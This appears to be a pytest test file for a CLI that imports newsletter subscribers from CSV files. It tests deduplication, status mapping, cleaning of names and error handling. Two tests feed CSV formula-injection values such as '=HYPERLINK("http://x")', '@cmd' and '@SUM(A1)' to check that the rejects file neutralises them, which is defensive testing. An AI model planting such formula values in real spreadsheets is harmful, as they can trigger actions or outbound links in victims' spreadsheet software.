def test_duplicates_against_the_database_are_not_added_twice(cli: Cli, tmp_path: Path) -> None:
    run_import(cli, str(write_csv(tmp_path / "a.csv", "email,name\nanne@exemple.fr,Anne\n")))
    second = write_csv(tmp_path / "b.csv", "email,name\nANNE@exemple.fr,Anne\nbob@exemple.fr,Bob\n")

    report = run_import(cli, str(second))

    assert counts(report) == (2, 1, 0, 1, 0, 0)
    assert people(cli) == {
        "anne@exemple.fr": ("Anne", None, "active"),
        "bob@exemple.fr": ("Bob", None, "active"),
    }


# --- names --------------------------------------------------------------------------------


def test_control_characters_are_removed_from_names_with_a_warning(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "c.csv",
        "email;prénom;nom;civilité\n"
        'a@x.fr;"Ann\x00e";"Du\u202epont\u202c";M\x07me\n'  # 2: NUL, bidi, BEL
        'b@x.fr;"Bob\u2066";"Le\rBlanc";M.\n'  # 3: isolate, CR
        "c@x.fr;Zoë\u00a0;\u00a0Dupont-Durand;\n",  # 4: no-break spaces are only spaces
    )

    report = run_import(cli, str(source))

    assert warnings(report) == [
        (2, "control characters removed from first_name"),
        (2, "control characters removed from last_name"),
        (2, "control characters removed from civility"),
        (3, "control characters removed from first_name"),
        (3, "control characters removed from last_name"),
    ]
    assert listing(cli) == [
        {
            "email": email,
            "first_name": first,
            "last_name": last,
            "civility": civility,
            "status": "active",
            "attributes": {},
        }
        for email, first, last, civility in [
            ("a@x.fr", "Anne", "Dupont", "Mme"),
            ("b@x.fr", "Bob", "Le Blanc", "M."),
            ("c@x.fr", "Zoë", "Dupont-Durand", None),
        ]
    ]


def test_overlong_names_are_cut_to_their_column_width(cli: Cli, tmp_path: Path) -> None:
    # PostgreSQL enforces VARCHAR widths: civility is 50 characters, names 200.
    civility = "Directrice générale adjointe des services techniques municipaux"
    source = write_csv(
        tmp_path / "long.csv", f"email;prénom;titre\na@x.fr;{'É' * 250};{civility}\n"
    )

    report = run_import(cli, str(source))

    assert counts(report) == (1, 1, 0, 0, 0, 0)
    person = listing(cli)[0]
    assert person["first_name"] == "É" * 200
    assert person["civility"] == civility[:50].rstrip()


# --- statuses -----------------------------------------------------------------------------


def test_status_column_imports_opted_out_people_as_unsubscribed(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "s.csv",
        "email,statut\n"
        "a@x.fr,actif\n"
        "b@x.fr,unsubscribed\n"
        "c@x.fr,blocklisted\n"
        "d@x.fr,Désabonné\n"
        "e@x.fr,bounced\n"
        "f@x.fr,\n"
        "g@x.fr,peut-être\n",
    )

    report = run_import(cli, str(source))

    assert counts(report) == (7, 6, 0, 0, 0, 1)
    assert rejected(report)[0][0] == 8
    assert rejected(report)[0][1].startswith("unknown status 'peut-être' in column 'statut'")
    assert statuses(cli) == {
        "a@x.fr": "active",
        "b@x.fr": "unsubscribed",
        "c@x.fr": "unsubscribed",
        "d@x.fr": "unsubscribed",
        "e@x.fr": "bounced",
        "f@x.fr": "active",
    }


def test_reimport_never_resubscribes_someone_who_unsubscribed(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "a.csv", "email,name\nanne@exemple.fr,Anne\nbob@x.fr,Bob\n")
    run_import(cli, str(source))
    assert cli("subscribers", "unsubscribe", "ANNE@exemple.fr").code == 0

    report = run_import(cli, str(source))

    assert counts(report) == (2, 0, 0, 2, 0, 0)
    assert statuses(cli) == {"anne@exemple.fr": "unsubscribed", "bob@x.fr": "active"}


def test_unsubscribe_in_a_later_file_applies_to_an_active_subscriber(
    cli: Cli, tmp_path: Path
) -> None:
    run_import(cli, str(write_csv(tmp_path / "a.csv", "email\nanne@exemple.fr\n")))
    later = write_csv(tmp_path / "b.csv", "email,status\nanne@exemple.fr,unsubscribed\n")

    report = run_import(cli, str(later))

    assert counts(report) == (1, 0, 1, 0, 0, 0)
    assert statuses(cli) == {"anne@exemple.fr": "unsubscribed"}


def test_a_duplicate_row_that_opts_out_wins_over_the_first(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "d.csv", "email,status\nanne@exemple.fr,enabled\nAnne@exemple.fr,blocklisted\n"
    )

    report = run_import(cli, str(source))

    assert counts(report) == (2, 1, 0, 0, 1, 0)
    assert warnings(report) == [(3, "duplicate of line 2; its status unsubscribed applied")]
    assert statuses(cli) == {"anne@exemple.fr": "unsubscribed"}


def test_forgotten_address_is_not_imported_again(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "a.csv", "email\nanne@exemple.fr\nbob@x.fr\n")
    run_import(cli, str(source))
    assert cli("subscribers", "forget", "anne@exemple.fr").code == 0

    report = run_import(cli, str(source))

    assert counts(report) == (2, 0, 0, 1, 0, 1)
    assert rejected(report) == [(2, "address erased on request (forget); not imported again")]
    assert statuses(cli) == {"bob@x.fr": "active"}


# --- rejects file -------------------------------------------------------------------------


def test_rejects_file_prefixes_every_formula_start_with_a_quote(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(
        tmp_path / "f.csv",
        "email;nom;note\n"
        "=1+2;Égal;x\n"
        "+33612345678;Plus;-5\n"
        "-x;Moins;@SUM(A1)\n"
        "@cmd;Arobase;ok\n"
        "ok@x.fr;Bon;=2\n",
    )
    rejects = tmp_path / "out" / "rejets.csv"
    rejects.parent.mkdir()

    report = run_import(cli, str(source), "--rejects", str(rejects))

    assert [line for line, _ in rejected(report)] == [2, 3, 4, 5]
    rows = list(csv.reader(io.StringIO(rejects.read_text("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["line", "reason", "email", "nom", "note"]
    assert [[row[0], *row[2:]] for row in rows[1:]] == [
        ["2", "'=1+2", "Égal", "x"],
        ["3", "'+33612345678", "Plus", "'-5"],
        ["4", "'-x", "Moins", "'@SUM(A1)"],
        ["5", "'@cmd", "Arobase", "ok"],
    ]


def test_rejects_file_neutralises_formulas_in_the_header_too(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "h.csv", 'email,=HYPERLINK("http://x"),@cmd\nnope,a,b\n')
    rejects = tmp_path / "rejets.csv"

    run_import(cli, str(source), "--rejects", str(rejects))

    rows = list(csv.reader(io.StringIO(rejects.read_text("utf-8-sig"))))
    assert rows[0] == ["line", "reason", "email", '\'=HYPERLINK("http://x")', "'@cmd"]


def test_rejects_file_is_written_even_when_nothing_is_rejected(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "ok.csv", "email\nok@x.fr\n")
    rejects = tmp_path / "rejets.csv"

    run_import(cli, str(source), "--rejects", str(rejects))

    assert rejects.read_text("utf-8-sig").splitlines() == ["line,reason,email"]


# --- files that cannot be imported --------------------------------------------------------


def test_file_without_an_email_column_is_an_error_and_writes_nothing(
    cli: Cli, tmp_path: Path
) -> None:
    source = write_csv(tmp_path / "n.csv", "nom;prénom;téléphone\nDupont;Anne;0102\n")

    fails_cleanly(cli("import", str(source)), "no email column found in the header")
    assert subscriber_count(cli) == 0


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("missing.csv", None, "missing.csv: No such file or directory"),
        ("empty.csv", b"", "empty.csv is empty: no header row"),
        ("blank.csv", b"\r\n\n  \n", "blank.csv is empty: no header row"),
        ("book.xlsx", b"PK\x03\x04\x14\x00\x06\x00" + bytes(200), "is not CSV text"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "is not CSV text"),
        ("folder", "dir", "is a folder, not a CSV file"),
    ],
)
def test_unreadable_file_is_an_error_and_writes_nothing(
    cli: Cli, tmp_path: Path, name: str, content: bytes | str | None, message: str
) -> None:
    path = tmp_path / name
    if content == "dir":
        path.mkdir()
    elif isinstance(content, bytes):
        path.write_bytes(content)

    fails_cleanly(cli("import", str(path)), message)
    assert subscriber_count(cli) == 0


# --- dry run and output -------------------------------------------------------------------


def test_dry_run_reports_the_same_counts_and_writes_nothing(cli: Cli) -> None:
    dry = run_import(cli, str(FIXTURES / "messy.csv"), "--dry-run")
    assert subscriber_count(cli) == 0

    real = run_import(cli, str(FIXTURES / "messy.csv"))

    assert dry["dry_run"] is True
    assert real["dry_run"] is False
    assert counts(dry) == counts(real) == (14, 10, 0, 0, 1, 3)
    assert dry["rejected"] == real["rejected"]
    assert dry["warnings"] == real["warnings"]
    assert subscriber_count(cli) == 10


def test_dry_run_after_an_import_reports_unchanged(cli: Cli) -> None:
    run_import(cli, str(FIXTURES / "listmonk.csv"))

    report = run_import(cli, str(FIXTURES / "listmonk.csv"), "--dry-run")

    assert counts(report) == (4, 0, 0, 4, 0, 0)


def test_human_summary_lists_counts_rejections_and_warnings(cli: Cli) -> None:
    result = cli("import", str(FIXTURES / "excel_fr.csv"))

    assert result.code == 0
    summary = " ".join(result.stdout.split())
    assert "excel_fr.csv (windows-1252, delimiter ';'): 8 rows" in summary
    assert "imported 6 updated 0 unchanged 0 duplicates 1 rejected 1" in summary
    assert "Not stored: Téléphone, Ville" in result.stdout
    assert "line 7: invalid address" in result.stdout
    assert "line 8: duplicate of line 3; skipped" in result.stdout


# --- parse_record: one record in, notices then one candidate or rejection out -------------


def parse(
    header: list[str],
    cells: list[str],
    *,
    end_line: int = 2,
    attributes: list[str] | None = None,
) -> list[Outcome]:
    columns = map_columns(header, attributes=attributes)
    outcomes = list(parse_record(Record(2, end_line, cells), columns))
    # Notices first, then exactly one Candidate or Rejection.
    assert all(isinstance(o, Notice) for o in outcomes[:-1])
    assert isinstance(outcomes[-1], Candidate | Rejection)
    return outcomes


def test_multiline_note_that_mentions_an_address_is_not_an_unbalanced_quote() -> None:
    header = ["Email Address", "First Name", "NOTES", "TAGS"]
    note = "Rencontrée au salon, stand 12.\nContact pro : zoe@agence.example\nou zoe@perso.example"

    outcomes = parse(header, ["zoe@exemple.fr", "Zoë", note, ""], end_line=4)

    assert isinstance(outcomes[-1], Candidate)
    assert outcomes[-1].email == "zoe@exemple.fr"


@pytest.mark.parametrize(
    ("header", "cells"),
    [
        (["email", "name"], ["ivan@x.fr", "Ivan,\njudy@x.fr,Judy\n"]),
        (["email", "name"], ['ivan@x.fr,Ivan\n"judy@x.fr",Judy\n', ""]),
        (["email"], ["ivan@x.fr\njudy@x.fr\n"]),
        (["Civilité", "Prénom", "Courriel"], ["M.", "Ivan;\nMme;Judy;judy@x.fr\n", ""]),
    ],
)
def test_cell_that_swallowed_whole_rows_is_an_unbalanced_quote(
    header: list[str], cells: list[str]
) -> None:
    outcomes = parse(header, cells, end_line=3)

    assert outcomes == [Rejection(2, "unbalanced quote: lines 2-3 were read as one record", cells)]


def test_listmonk_attributes_that_are_not_a_json_object_are_kept_as_text() -> None:
    header = ["email", "attributes"]
    for raw in ["[1, 2]", "{not json", '{"x": NaN}', "[" * 50_000]:
        outcomes = parse(header, ["a@x.fr", raw], attributes=["attributes"])

        assert outcomes[0] == Notice(2, "attributes column is not a JSON object; kept as text")
        candidate = outcomes[-1]
        assert isinstance(candidate, Candidate)
        assert candidate.attributes == {"attributes": raw}


def test_trailing_empty_cells_are_no_warning_but_extra_content_is() -> None:
    assert len(parse(["email", "nom"], ["a@x.fr", "Roux", "", " ", ""])) == 1
    assert parse(["email", "nom"], ["a@x.fr", "Roux", "", "en trop"])[0] == Notice(
        2, "4 cells but the header has 2; extra ignored"
    )


def test_short_row_reads_missing_cells_as_empty() -> None:
    notice, candidate = parse(["email", "prénom", "nom"], ["a@x.fr"])

    # Issue 14 item 10: a short row is no longer imported without a word.
    assert notice == Notice(2, "1 cell but the header has 3; the missing read as empty")
    assert isinstance(candidate, Candidate)
    assert (candidate.first_name, candidate.last_name) == (None, None)


@pytest.mark.parametrize(
    ("extra", "status"),
    [
        (["", ""], SubscriberStatus.ACTIVE),
        (["2024-02-03 18:22:10", ""], SubscriberStatus.UNSUBSCRIBED),
        (["", "2024-01-20 03:14:15"], SubscriberStatus.BOUNCED),
    ],
)
def test_mailchimp_marker_columns_set_the_status(
    extra: list[str], status: SubscriberStatus
) -> None:
    (candidate,) = parse(["Email Address", "UNSUB_TIME", "CLEAN_TIME"], ["a@x.fr", *extra])

    assert isinstance(candidate, Candidate)
    assert candidate.status is status


@pytest.mark.parametrize(
    ("word", "status"),
    [
        ("", SubscriberStatus.ACTIVE),
        ("enabled", SubscriberStatus.ACTIVE),
        ("Subscribed", SubscriberStatus.ACTIVE),
        ("Abonné(e)", SubscriberStatus.ACTIVE),
        ("opt-in", SubscriberStatus.ACTIVE),
        ("blocklisted", SubscriberStatus.UNSUBSCRIBED),
        ("disabled", SubscriberStatus.UNSUBSCRIBED),
        ("Unsubscribed", SubscriberStatus.UNSUBSCRIBED),
        ("Désabonné", SubscriberStatus.UNSUBSCRIBED),
        ("opt-out", SubscriberStatus.UNSUBSCRIBED),
        ("pending", SubscriberStatus.UNSUBSCRIBED),
        ("archived", SubscriberStatus.UNSUBSCRIBED),
        ("transactional", SubscriberStatus.UNSUBSCRIBED),
        ("cleaned", SubscriberStatus.BOUNCED),
        ("NPAI", SubscriberStatus.BOUNCED),
        ("hard bounce", SubscriberStatus.BOUNCED),
    ],
)
def test_status_words_of_common_tools_are_understood(word: str, status: SubscriberStatus) -> None:
    (candidate,) = parse(["email", "status"], ["a@x.fr", word])

    assert isinstance(candidate, Candidate)
    assert candidate.status is status


def test_unknown_status_is_rejected_with_the_column_and_a_way_out() -> None:
    assert parse(["email", "État"], ["a@x.fr", "Prospect"]) == [
        Rejection(
            2,
            "unknown status 'Prospect' in column 'État' (expected active, unsubscribed or "
            "bounced; --map 'État=ignore' if it means something else)",
            ["a@x.fr", "Prospect"],
        )
    ]


def test_address_warning_comes_before_name_warnings() -> None:
    outcomes = parse(["email", "prénom"], ["Anne <a@x.fr>", "An\x00ne"])

    assert outcomes[:-1] == [
        Notice(2, "display name around a@x.fr ignored"),
        Notice(2, "control characters removed from first_name"),
    ]


def test_a_bare_list_of_addresses_without_header_imports(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "liste.txt", "helene@exemple.fr\nmarc@exemple.fr\nnope\n")
    result = cli("import", str(source), "--json")
    assert result.code == 0, result.stderr
    data = json.loads(result.stdout)
    assert (data["rows"], data["imported"]) == (3, 2)
    assert data["rejected"] == [
        {"line": 3, "reason": "invalid address: An email address must have an @-sign."}
    ]
    assert data["warnings"][0] == {
        "line": 1,
        "message": "no header row: column 1 holds the addresses and the first line is read as data",
    }


def test_headerless_file_with_names_keeps_the_address_column(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "l.csv", "Dupont;helene@exemple.fr\nMartin;marc@exemple.fr\n")
    data = json.loads(cli("import", str(source), "--json").stdout)
    assert (data["rows"], data["imported"], data["columns"]) == (2, 2, {"email": "column 2"})
    assert data["ignored_columns"] == ["column 1"]


def test_a_header_without_email_and_no_address_is_still_an_error(cli: Cli, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "l.csv", "nom;prénom\nDupont;Hélène\n")
    result = cli("import", str(source))
    assert result.code == 1
    assert result.stderr.startswith("Error: no email column found")
